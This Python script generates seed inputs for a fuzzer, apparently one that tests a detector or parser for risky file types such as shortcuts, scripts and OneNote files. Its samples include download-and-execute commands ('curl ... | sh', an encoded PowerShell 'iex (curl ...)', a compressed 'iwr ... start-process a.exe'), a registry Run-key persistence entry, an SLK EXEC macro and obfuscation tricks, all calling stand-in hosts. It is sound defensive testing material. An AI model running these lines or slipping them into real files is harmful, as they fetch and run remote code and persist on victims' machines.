#!/usr/bin/python3
"""Write the seeds of fuzz-program: shortcuts, notebooks and scripts.

The first byte says under which name the rest is looked at, see
fuzz-program.c. Run after adding one; the files are checked in.
"""

import base64
import gzip
import importlib.util
import pathlib

HERE = pathlib.Path(__file__).resolve().parent
SPEC = importlib.util.spec_from_file_location(
    "make_program", HERE.parent / "cases" / "make_program.py")
cases = importlib.util.module_from_spec(SPEC)
SPEC.loader.exec_module(cases)
SEEDS = HERE / "seeds" / "program"

SCRIPT = (b'a="pow"+"er";b[0]="x";c=Chr(65)&Chr(&H42)&String.fromCharCode(1,2'
          b',67);d="\\x41\\u0042"+a;e=Replace(f,"#","");g=StrReverse("dcba");'
          b'h="{1}{0}" -f "x","y";["a","b"].join("");#@~^BgAAAA==\t|w@#@&'
          b'QAgIAAA==^#~@ http://example.com/\n')
BATCH = (b"@echo off\r\nset a=pow\r\nset \"b=er\"\r\n%a%%b:~0,1%!a!%comspec:"
         b"~-7,3% p^o\"\"w `a\r\n")
CODED = (b"iex '" + base64.b64encode("iex (curl http://example.com)".encode(
    "utf-16-le")) + b"' 0x41,0x42,67,68,69,70,71,72,73,74,75,76,77,78,79,80,81"
    b" '" + base64.b64encode(cases.base.program()[:100]) + b"' "
    + b"".join(b"%d," % (c ^ 7) for c in b"wscript.shell http://example.com/"
               b" function createobject powershell"))

# name in fuzz-program.c, number of it
NAMES = ["a.js", "a.vbs", "a.ps1", "a.bat", "a.hta", "a.lnk", "a.url",
         "a.rdp", "a.sh", "a.py", "a.reg", "a.appref-ms", "", "a.one"]

FILES = {
    "empty": ("a.js", b""),
    "js": ("a.js", SCRIPT),
    "vbs": ("a.vbs", SCRIPT),
    "bat": ("a.bat", BATCH),
    "ps1": ("a.ps1", CODED),
    "hta": ("a.hta", b"<html><hta:application><script>" + SCRIPT),
    "lnk-items": ("a.lnk", cases.lnk(items=("C:\\", "Windows", "cmd.exe"),
                                     arguments="/c x", overlay=b"MZ" * 20)),
    "lnk-info": ("a.lnk", cases.lnk("C:\\a.exe", "x" * 40, "a.ico",
                                    folder="C:\\")),
    "lnk-network": ("a.lnk", cases.lnk(info=cases.network_info(
        r"\\host\share", "a.exe"), environment="%windir%\\a.exe")),
    "one": ("a.one", cases.onenote(cases.base.png(), b"@echo off\r\n",
                                   names=["a.bat"])),
    "url": ("a.url", b"[InternetShortcut]\r\nURL=file://h/a.exe\r\nIconFile="
            b"\\\\h\\a.ico\r\n"),
    "desktop": ("", b"[Desktop Entry]\nExec=bash -c \"curl http://a/ | sh\"\n"
                b"URL=http://a/\n"),
    "rdp": ("a.rdp", b"full address:s:a.example.com\ndrivestoredirect:s:*\n"
            b"remoteapplicationprogram:s:||a\n"),
    "library": ("", cases.LIBRARY % b"\\\\h\\a"),
    "settings": ("", b"<?xml version='1.0'?><SettingContent><DeepLink>cmd /c a"
                 b"</DeepLink>"),
    "webloc": ("", b"<?xml version='1.0'?><plist><dict><key>URL</key><string>"
               b"http://a/?a&amp;b</string>"),
    "bplist": ("", b"bplist00\xd1\1\2SURL_\x10\x11http://a.example/\x08\x0b"),
    "installer": ("", b"<?xml version='1.0'?><jnlp codebase=\"http://a/\" "
                  b"href='\\\\h\\a'>"),
    "msc": ("", b"<?xml version='1.0'?><MMC_ConsoleFile>javascript:a"),
    "slk": ("", b"ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;EEXEC(\"a|b\")\nE\n"),
    "iqy": ("", b"WEB\n1\nhttp://a/\n"),
    "autorun": ("", b"[autorun]\nopen=a.exe /x\nshellexecute=b\n"),
    "theme": ("", b"[Theme]\nWallpaper=\\\\h\\a\n[VisualStyles]\nPath=\\\\h\n"),
    "reg": ("a.reg", b"REGEDIT4\n[HKCU\\Software\\Microsoft\\Windows\\Current"
            b"Version\\Run]\n\"a\"=\"b\"\n"),
    "contact": ("", b"<?xml version='1.0'?><c:contact xmlns:c=\"http://schemas."
                b"microsoft.com/Contact\"><c:Value>.\\a\\b.cpl</c:Value>"),
    "terminal": ("", b"<?xml version='1.0'?><plist><key>CommandString</key>"
                 b"<string>curl http://a/|sh</string>"),
    "chm": ("", cases.chm(("/a.html", cases.HELP_COMMAND))),
    "deflated": ("a.ps1", b"'" + base64.b64encode(gzip.compress(
        b"iwr http://example.com/ -outfile a.exe; start-process a.exe",
        mtime=0)) + b"'"),
    "appref": ("a.appref-ms", b"http://a/b.application#a, c\n"),
    "sh": ("a.sh", b"#!/bin/sh\ncurl http://a/ | bash\nchmod +x a\n"),
    "py": ("a.py", b"import urllib.request\nexec(a)\n"),
}


def main():
    SEEDS.mkdir(parents=True, exist_ok=True)
    for name, (kind, data) in FILES.items():
        (SEEDS / name).write_bytes(bytes([NAMES.index(kind)]) + data)


if __name__ == "__main__":
    main()
